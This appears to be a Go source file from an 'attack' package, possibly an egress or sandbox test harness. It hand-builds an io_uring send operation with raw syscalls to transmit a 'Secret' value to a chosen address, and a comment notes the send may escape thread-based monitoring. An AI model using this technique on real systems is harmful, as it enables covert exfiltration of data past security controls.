package attack

import (
	"errors"
	"net/netip"
	"os"
	"unsafe"

	"golang.org/x/sys/unix"
)

// Layout of io_uring(7) (linux/io_uring.h).
const (
	ringSetup, ringEnter   = 425, 426
	ringEntries            = 8
	offSubmissions         = 0x10000000
	opSend, ringGetEvents  = 26, 1
	submissionSize         = 64
	paramsSize, sqRingSize = 120, 4096
)

// ring sends by io_uring: the kernel does it in another way, and perhaps in another thread's name.
func ring(a Aim, kind int, to netip.AddrPort) error {
	return datagramLike(a, kind, func(fd int) error {
		if err := connect(fd, sockaddr(to)); err != nil {
			return err
		}
		return submit(fd, []byte(Secret))
	})
}

func submit(fd int, data []byte) error {
	var params [paramsSize]byte
	made, _, errno := unix.Syscall(ringSetup, ringEntries, uintptr(unsafe.Pointer(&params)), 0) //nolint:gosec // io_uring_setup(2)
	if errno != 0 {
		return os.NewSyscallError("io_uring_setup", errno)
	}
	defer unix.Close(int(made))
	word := func(at int) uint32 { return *(*uint32)(unsafe.Pointer(&params[at])) } //nolint:gosec // struct io_uring_params
	head, err := unix.Mmap(int(made), 0, sqRingSize, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED)
	if err != nil {
		return os.NewSyscallError("mmap", err)
	}
	entries, err := unix.Mmap(int(made), offSubmissions, ringEntries*submissionSize, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED)
	if err != nil {
		return errors.Join(os.NewSyscallError("mmap", err), unix.Munmap(head))
	}
	defer func() { _, _ = unix.Munmap(head), unix.Munmap(entries) }()
	entries[0] = opSend
	*(*int32)(unsafe.Pointer(&entries[4])) = int32(fd)                                   //nolint:gosec // struct io_uring_sqe
	*(*uint64)(unsafe.Pointer(&entries[16])) = uint64(uintptr(unsafe.Pointer(&data[0]))) //nolint:gosec // struct io_uring_sqe
	*(*uint32)(unsafe.Pointer(&entries[24])) = uint32(len(data))                         //nolint:gosec // struct io_uring_sqe
	tail, array := word(44), word(64)                                                    // io_sqring_offsets: tail, array
	*(*uint32)(unsafe.Pointer(&head[array])) = 0                                         //nolint:gosec // the submission queue's
	*(*uint32)(unsafe.Pointer(&head[tail]))++                                            //nolint:gosec // the submission queue's
	_, _, errno = unix.Syscall6(ringEnter, made, 1, 1, ringGetEvents, 0, 0)
	return errnoOrNil(errno)
}
